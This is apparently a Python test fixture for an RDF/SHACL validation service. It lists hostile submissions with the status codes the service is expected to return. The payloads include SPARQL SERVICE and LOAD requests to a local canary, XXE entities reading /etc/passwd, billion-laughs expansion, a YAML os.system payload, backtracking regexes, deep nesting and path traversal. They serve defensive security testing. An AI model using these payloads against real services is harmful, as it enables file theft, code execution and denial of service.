"""Submissions that mean harm: shapes and data that want a request sent, a hang, a crash, or all the memory."""
# ruff: noqa: E501, S608 - one attack stands in one line; that its text is pasted together is the attack

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, Final

CANARY: Final = "http://127.0.0.1:CANARY/"
"""Stands for the address at which the tests listen."""

PREFIXES: Final = """@prefix : <http://e/> . @prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> . @prefix dcat: <http://www.w3.org/ns/dcat#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> . @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
"""
NODES: Final = PREFIXES + "".join(
    f':n{n} a :C ; :p {n} ; :next :n{(n + 1) % 300} ; :name "{"a" * 30}!" .\n' for n in range(300)
)
ENDED: Final = 503
READ: Final = frozenset({200})
REFUSED: Final = frozenset({400, 413, 415, 422})
STOPPED: Final = frozenset({ENDED})


@dataclass(frozen=True)
class Attack:
    """One request.

    :ivar statuses: one of which the answer must have.
    """

    name: str
    body: str | bytes
    kind: str = "application/json"
    statuses: frozenset[int] = READ | REFUSED
    query: str = ""

    def __str__(self) -> str:
        return self.name


def shapes(name: str, text: str, statuses: frozenset[int], data: str = NODES) -> Attack:
    """By shapes of the attacker's own."""
    return Attack(name, json.dumps({"data": data, "shapes": PREFIXES + text}), statuses=statuses)


def select(name: str, query: str, statuses: frozenset[int], more: str = "", data: str = NODES) -> Attack:
    """By a query in a shape."""
    text = f":S a sh:NodeShape ; sh:targetClass :C ; sh:sparql [ {more} sh:select {json.dumps(query)} ] ."
    return shapes(name, text, statuses, data)


def constraint(name: str, text: str, statuses: frozenset[int], data: str = NODES) -> Attack:
    """By a constraint on each node of the data."""
    return shapes(name, f":S a sh:NodeShape ; sh:targetClass :C ; {text} .", statuses, data)


def document(
    name: str, text: str | bytes, kind: str, statuses: frozenset[int] = REFUSED, profile: str = "dcat-ap"
) -> Attack:
    """By a document alone."""
    return Attack(name, text, kind, statuses, f"?profile={profile}")


def json_ld(name: str, value: Any, statuses: frozenset[int] = REFUSED) -> Attack:
    return document(name, value if isinstance(value, str) else json.dumps(value), "application/ld+json", statuses)


def xml(name: str, doctype: str, inside: str = "", statuses: frozenset[int] = REFUSED) -> Attack:
    head = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
    text = f'<?xml version="1.0"?>{doctype}{head}<rdf:Description rdf:about="http://e/a"><e:p>{inside}</e:p></rdf:Description></rdf:RDF>'
    return document(name, text, "application/rdf+xml", statuses)


def prefixed(name: str, prefix: str, namespace: str) -> Attack:
    """Text that breaks out of a prefix declaration."""
    declared = f":o sh:declare [ sh:prefix {json.dumps(prefix)} ; sh:namespace {json.dumps(namespace)}^^xsd:anyURI ] ."
    query = json.dumps("SELECT $this { $this a ?c }")
    body = f":S a sh:NodeShape ; sh:targetClass :C ; sh:sparql [ sh:prefixes :o ; sh:select {query} ] . {declared}"
    return shapes(name, body, REFUSED)


def doubled(times: int) -> str:
    """A query whose text grows two times for each step."""
    steps = "".join(f" BIND(CONCAT(?t{n}, ?t{n}) AS ?t{n + 1})" for n in range(times))
    return f"SELECT $this {{ $this <http://e/name> ?t0 {steps} FILTER (STRLEN(?t{times}) > 3) }}"


SERVICE: Final = f"SELECT $this {{ SERVICE <{CANARY}> {{ $this a ?c }} }}"
CARTESIAN: Final = "SELECT $this { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER (?a = ?l && ?d = ?i) }"
_PATHS: Final = "".join(f":p{n} sh:alternativePath ( :p{n + 1} :p{n + 1} ) . " for n in range(40))
_INNER: Final = "".join(
    f":s{n} sh:property [ sh:path :next ; sh:node :s{n + 1} ], [ sh:path :next ; sh:property :q{n} ] . :q{n} sh:path :next ; sh:property :q{n + 1}, :r{n} . :r{n} sh:path :next ; sh:property :q{n + 1} . "
    for n in range(20)
)
_STARS: Final = "[ sh:zeroOrMorePath [ sh:alternativePath ( :next [ sh:inversePath :next ] :p :name ) ] ]"
_DENSE: Final = PREFIXES + "".join(f":m{a} :next :m{b} . " for a in range(150) for b in range(150)) + ":m0 a :C ."
_LAUGHS: Final = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
_CHAIN: Final = PREFIXES + ":c a dcat:Dataset ; :p " + "( " + " ".join(map(str, range(60_000))) + " ) ."

REQUESTS: Final = (
    select("service", SERVICE, REFUSED),
    select("service_behind_an_iri_with_a_number_sign", f"SELECT $this {{ $this a <http://e/C#x> . SERVICE <{CANARY}> {{ ?s ?p ?o }} }}", REFUSED),
    select("service_behind_a_name_with_a_point", f"PREFIX x: <http://e/> SELECT $this {{ $this a x:.SERVICE<{CANARY}>{{ ?s ?p ?o }} }}", REFUSED),
    select("service_silent_with_a_variable", f"SELECT $this {{ BIND(IRI('{CANARY}') AS ?at) SERVICE SILENT ?at {{ ?s ?p ?o }} }}", REFUSED),
    select("service_in_a_subquery", f"SELECT $this {{ {{ SELECT $this {{ SERVICE <{CANARY}> {{ $this ?p ?o }} }} }} }}", REFUSED),
    select("service_in_code_points", f"SELECT $this {{ \\u0053ERVICE <{CANARY}> {{ $this ?p ?o }} }}", REFUSED),
    select("service_behind_a_comment", f"SELECT $this {{ # {{\nSERVICE <{CANARY}> {{ $this ?p ?o }} }}", REFUSED),
    select("from", f"SELECT $this FROM <{CANARY}> {{ $this ?p ?o }}", REFUSED),
    select("from_named", f"SELECT $this FROM NAMED <{CANARY}> {{ GRAPH ?g {{ $this ?p ?o }} }}", REFUSED),
    select("load", f"LOAD <{CANARY}>", REFUSED),
    select("load_behind_a_query", f"SELECT $this {{ $this ?p ?o }} ; LOAD <{CANARY}>", REFUSED),
    select("graph_of_the_web", f"SELECT $this {{ GRAPH <{CANARY}> {{ $this ?p ?o }} }}", READ),
    select("imported_prefixes", "SELECT $this { $this a ?c }", READ, f"sh:prefixes <{CANARY}> ;"),
    prefixed("service_in_a_prefix", f"x: <http://e/> SELECT * {{ SERVICE <{CANARY}> {{ ?s ?p ?o }} }} #", "http://e/"),
    prefixed("service_in_a_namespace", "x", f"http://e/> SELECT * {{ SERVICE <{CANARY}> {{ ?s ?p ?o }} }} #"),
    shapes(
        "service_in_a_component",
        f""":K a sh:ConstraintComponent ; sh:parameter [ sh:path :k ] ; sh:validator [ a sh:SPARQLAskValidator ;
  sh:ask "ASK {{ SERVICE <{CANARY}> {{ $value ?p ?o }} }}" ] . :S a sh:NodeShape ; sh:targetClass :C ; :k 1 .""",
        REFUSED,
    ),
    shapes(
        "service_in_a_target",
        f""":S a sh:NodeShape ; sh:target [ a sh:SPARQLTarget ; sh:select "SELECT ?this {{ SERVICE <{CANARY}> {{ ?this ?p ?o }} }}" ] ;
  sh:rule [ a sh:SPARQLRule ; sh:construct "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{CANARY}> {{ ?s ?p ?o }} }}" ] .""",
        READ,
    ),
    shapes("imports", f"<http://e/shapes> a owl:Ontology ; owl:imports <{CANARY}shapes.ttl> .", READ),
    shapes("imports_of_a_file", "<http://e/shapes> a owl:Ontology ; owl:imports <file:///etc/passwd> .", READ),
    constraint("javascript", f'sh:js [ a sh:JSConstraint ; sh:jsLibrary [ sh:jsLibraryURL "{CANARY}x.js"^^xsd:anyURI ] ; sh:jsFunctionName "f" ]', READ),
    document("imports_in_data", f"{PREFIXES} <http://e/d> a dcat:Dataset ; owl:imports <{CANARY}> ; sh:shapesGraph <{CANARY}> ; dcat:landingPage <{CANARY}> .", "text/turtle", READ),
    json_ld("context", {"@context": CANARY, "@id": "http://e/a"}),
    json_ld("context_in_a_list", {"@context": [{"a": "http://e/a"}, f"{CANARY}c"], "@id": "http://e/a"}),
    json_ld("context_of_a_property", {"@context": {"a": {"@id": "http://e/a", "@context": CANARY}}, "a": {"@id": "http://e/b"}}, READ | REFUSED),
    json_ld("imported_context", {"@context": {"@version": 1.1, "@import": CANARY}, "@id": "http://e/a"}, READ | REFUSED),
    json_ld("relative_context", {"@context": "c.jsonld", "@id": "http://e/a"}),
    document("context_in_yaml", f"'@context': {CANARY}\n'@id': http://e/a\n", "application/ld+yaml"),
    xml("external_entity", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{CANARY}">]>', "&x;", READ | REFUSED),
    xml("external_entity_of_a_file", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;", READ | REFUSED),
    xml("external_document_type", f'<!DOCTYPE r SYSTEM "{CANARY}x.dtd">', "x", READ | REFUSED),
    xml("parameter_entity", f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{CANARY}"> %x;]>', "x", READ | REFUSED),
    Attack("record_elsewhere", "", "", frozenset({404}), f"?record={CANARY}&profile=dcat-ap"),
)  # fmt: skip
"""Want a request sent."""

HANGS: Final = (
    select("cartesian_product", CARTESIAN, STOPPED),
    select("endless_path", "SELECT $this { $this (<http://e/next>|^<http://e/next>|!<http://e/z>)* ?x . ?x (!<http://e/z>|^!<http://e/z>)+ ?y . ?y (!<http://e/z>)* ?w FILTER (?w = 7.5) }", READ | STOPPED, data=_DENSE),
    select("text_that_doubles", doubled(40), STOPPED),
    select("texts_joined", "SELECT $this (GROUP_CONCAT(?t) AS ?message) { $this a <http://e/C> . ?a <http://e/name> ?t . ?b ?p ?c . ?d ?q ?e } GROUP BY $this", STOPPED),
    select("expression_that_backtracks", r"SELECT $this { $this <http://e/name> ?t FILTER REGEX(?t, '^(a+)+$') }", READ),
    constraint("pattern_that_backtracks", r'sh:property [ sh:path :name ; sh:pattern "^(a+)+$" ]', READ),
    constraint("pattern_that_looks_behind", r'sh:property [ sh:path :name ; sh:pattern "(?<=a+)b\\1" ]', READ | REFUSED),
    constraint("pattern_that_is_large", 'sh:property [ sh:path :name ; sh:pattern "((((a{99}){99}){99}){99}){99}" ]', READ | REFUSED),
    constraint("path_that_contains_itself", "sh:property [ sh:path _:p ; sh:minCount 1 ] . _:p sh:inversePath _:p", REFUSED),
    constraint("path_that_doubles", f"sh:property [ sh:path :x0 ; sh:minCount 1 ] . {_PATHS} :x0 sh:name 'x'", READ | REFUSED | STOPPED),
    constraint("path_of_alternatives_that_double", f"sh:property [ sh:path [ sh:alternativePath ( [ sh:inversePath _:p0 ] :x ) ] ; sh:minCount 1 ] . {_PATHS.replace(':p', '_:p')} _:p40 sh:inversePath :x", REFUSED | STOPPED),
    constraint("path_anywhere", f"sh:property [ sh:path ( {_STARS} {_STARS} {_STARS} ) ; sh:maxCount 0 ]", READ | STOPPED, _DENSE),
    constraint("deep_path", "sh:property [ sh:path " + "[ sh:inversePath " * 5000 + ":p" + " ]" * 5000 + " ]", REFUSED),
    constraint("shape_that_contains_itself", "sh:node :S", REFUSED),
    constraint("shapes_that_contain_each_other", "sh:or ( :T ) . :T sh:not :U . :U sh:property [ sh:path :next ; sh:node :S ]", REFUSED),
    constraint("deep_shapes", "sh:not " + "[ sh:not " * 5000 + "[ sh:class :C ]" + " ]" * 5000, REFUSED),
    constraint("shapes_that_double", f"sh:node :s0 . {_INNER} :s20 sh:class :C . :q20 sh:path :p ; sh:minCount 1", STOPPED),
    constraint("list_without_end", "sh:in _:l . _:l rdf:first 1 ; rdf:rest _:l", REFUSED),
    constraint("list_of_shapes_without_end", "sh:or _:l . _:l rdf:first [ sh:class :C ] ; rdf:rest _:l", REFUSED),
    constraint("long_list", f"sh:in ( {' '.join(map(str, range(100_000)))} )", READ | STOPPED),
    constraint("number_without_end", f"sh:property [ sh:path :p ; sh:minInclusive {'9' * 200_000} ; sh:maxCount {'9' * 9000} ]", READ | REFUSED),
    shapes("cycle_of_subclasses", ":S a sh:NodeShape ; sh:targetClass :A ; sh:class :B . :A rdfs:subClassOf :B . :B rdfs:subClassOf :A .", READ, NODES + ":A rdfs:subClassOf :B . :B rdfs:subClassOf :A . :x a :A ."),
    shapes("results_without_end", "".join(f":S{n} a sh:NodeShape ; sh:targetSubjectsOf :next ; sh:property [ sh:path :next ; sh:maxCount 0 ], [ sh:path ( :next :next :next ) ; sh:nodeKind sh:Literal ] . " for n in range(2000)), READ | STOPPED, _DENSE),
    document("long_list_in_data", _CHAIN, "text/turtle", READ | STOPPED),
    document("long_list_in_a_record", _CHAIN.replace(":c a", "<https://w3id.org/fairmap/dataset/c> a"), "text/turtle", READ | STOPPED, "fairmap"),
)  # fmt: skip
"""Want a worker's time or memory without end."""

CRASHES: Final = (
    select("deep_groups", "SELECT $this { " + "{ " * 6000 + "$this ?p ?o" + " }" * 6000 + " }", REFUSED),
    select("deep_brackets", "SELECT $this { $this ?p ?o FILTER (" + "(" * 8000 + "1" + ")" * 8000 + ") }", REFUSED),
    select("deep_path_in_a_query", "SELECT $this { $this " + "(" * 6000 + "<http://e/p>" + ")*" * 6000 + " ?x }", REFUSED),
    select("many_signs", "SELECT $this { $this ?p ?o FILTER (" + "!" * 100_000 + "true) }", READ | REFUSED | STOPPED),
    select("long_sum", "SELECT $this { $this <http://e/p> ?o FILTER (" + "+".join(["?o"] * 20_000) + " < 0) }", READ | REFUSED | STOPPED),
    xml("laughs", f"<!DOCTYPE r [{_LAUGHS}]>", "&l9;"),
    xml("large_entity_often", f'<!DOCTYPE r [<!ENTITY a "{"a" * 70_000}">]>', "&a;" * 20_000),
    document("deep_xml", '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">' + "<e:C><e:p>" * 20_000 + "</e:p></e:C>" * 20_000 + "</rdf:RDF>", "application/rdf+xml", READ | REFUSED | STOPPED),
    document("deep_turtle", f"{PREFIXES} :a :p " + "[ :p " * 100_000 + "1" + " ]" * 100_000 + " .", "text/turtle", READ | REFUSED | STOPPED),
    document("deep_turtle_lists", f"{PREFIXES} :a :p " + "( " * 100_000 + "1" + " )" * 100_000 + " .", "text/turtle", READ | REFUSED | STOPPED),
    json_ld("deep_json_ld", '{"@id":"http://e/a","http://e/p":' * 5000 + "1" + "}" * 5000),
    json_ld("deep_json", "[" * 200_000 + "]" * 200_000),
    json_ld("deep_context", '{"@context":' + '{"a":{"@id":"http://e/a","@context":' * 5000 + "{}" + "}}" * 5000 + "}"),
    json_ld("context_that_contains_itself", {"@context": {"a": "b:x", "b": "a:x"}, "a": 1}, READ | REFUSED),
    document("deep_yaml", "a: " + "[" * 20_000 + "]" * 20_000, "application/ld+yaml", REFUSED | STOPPED),
    document("aliases", "a: &a [x]\n" + "".join(f"b{n}: &b{n} [{'*a, ' * 9}]\n" for n in range(9)), "application/ld+yaml"),
    document("code_in_yaml", "a: !!python/object/apply:os.system ['touch /tmp/fairmap-was-here']", "application/ld+yaml"),
    document("nothing", "", "text/turtle", READ),
    document("bytes_of_no_text", bytes(range(256)) * 64, "text/turtle"),
    document("other_media_type", "x", "application/x-tar", frozenset({415})),
    Attack("deep_submission", '{"data":' * 100_000 + "1" + "}" * 100_000, statuses=REFUSED),
    Attack("submission_with_half_a_letter", '{"data": "\\ud800"}', statuses=REFUSED),
    Attack("submission_that_is_no_object", "[1]", statuses=REFUSED),
    Attack("profile_that_is_a_path", json.dumps({"data": NODES, "profile": "../../etc/passwd"}), statuses=REFUSED),
    Attack("format_that_is_none", json.dumps({"data": NODES, "format": "/dev/zero"}), statuses=REFUSED),
    Attack("form_without_an_end", "--x\r\nContent-Disposition: form-data; name=data\r\n\r\n" + "a" * 100_000, "multipart/form-data; boundary=x", REFUSED),
    Attack("form_with_many_parts", "".join(f"--x\r\nContent-Disposition: form-data; name=a{n}\r\n\r\n1\r\n" for n in range(5000)) + "--x--\r\n", "multipart/form-data; boundary=x", REFUSED),
    Attack("form_with_many_fields", "&".join(f"a{n}=1" for n in range(50_000)) + "&data=%3Ca%3E", "application/x-www-form-urlencoded", READ | REFUSED),
    Attack("too_large", b"#" * ((1 << 20) + 1), "text/turtle", frozenset({413})),
)  # fmt: skip
"""Want a worker, or a web process, to fall over."""
